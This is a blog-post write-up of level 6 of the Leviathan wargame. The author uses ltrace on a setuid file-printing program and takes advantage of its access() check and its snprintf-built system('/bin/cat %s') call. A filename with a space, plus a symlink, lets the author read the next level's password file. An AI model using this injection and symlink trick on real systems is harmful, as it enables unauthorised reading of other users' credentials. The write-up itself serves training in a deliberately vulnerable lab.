15 November 2010

leviathan level 6 wargame at intruded.net (6/8) wargamesThis program seems to print file (printfile) located in /wargame... if run them:

level6@leviathan:/wargame$ ./printfile
*** File Printer ***
Usage: ./printfile filename

Trying to read the password of next level...

level6@leviathan:/wargame$ ln -s /home/level7/.passwd /tmp/passwd
level6@leviathan:/wargame$ ./printfile /tmp/pass
You cant have that file...

Don't work... let's see with ltrace...level6@leviathan:/wargame$ ltrace ./printfile /tmp/passwd
__libc_start_main(0x8048424, 2, 0xbffffd34, 0x8048570, 0x8048520
access("/tmp/passwd", 0)                         = -1
puts("You cant have that file..."You cant have that file...
)               = 27
+++ exited (status 1) +++

Check the permissions before show the file... ok, feed theprogram with correct permisions file...

level6@leviathan:/wargame$ echo "Hi" > /tmp/world
level6@leviathan:/wargame$ ./printfile /tmp/world

Seems work fine, ltrace this...

level6@leviathan:/wargame$ ltrace ./printfile /tmp/world
__libc_start_main(0x8048424, 2, 0xbffffd34, 0x8048570, 0x8048520
access("/tmp/world", 0)                          = 0
snprintf("/bin/cat /tmp/world", 511, "/bin/cat %s", "/tmp/world") = 19
system("/bin/cat /tmp/world"Hi
--- SIGCHLD (Child exited) ---
<... system resumed> )                           = 0
+++ exited (status 0) +++

Works fine, use system call for show the contents.. and construct the string with snprintf...

Solution: construct string with snprintf permits to inject more commands :)level6@leviathan:/wargame$ ltrace ./printfile "/tmp/helloworld"
__libc_start_main(0x8048424, 2, 0xbffffd34, 0x8048570, 0x8048520
access("/tmp/hello world", 0)                    = 0
snprintf("/bin/cat /tmp/hello world", 511, "/bin/cat %s", "/tmp/hello world") = 25
system("/bin/cat /tmp/hello world"/bin/cat: /tmp/hello: No such file or directory
/bin/cat: world: No such file or directory
--- SIGCHLD (Child exited) ---
<... system resumed> )                           = 256+++ exited (status 0) +++

Whatch this... access perform over "hello world" file, but cat, try to watch "/tmp/hello" and "world" :) easy, create "hello world" with some garbage inside, and link hello to passwd file :)

Posted at BinaryCell

No comments:

Post a Comment

Disclaimer: In no event shall the blog owner, be liable for any damages, including without limitation, special, indirect or consequential damages, or any damages, whatsoever resulting from access or use, or inability to access or use this Website orarising out of any materials, information, qualifications or recommendations on this Website.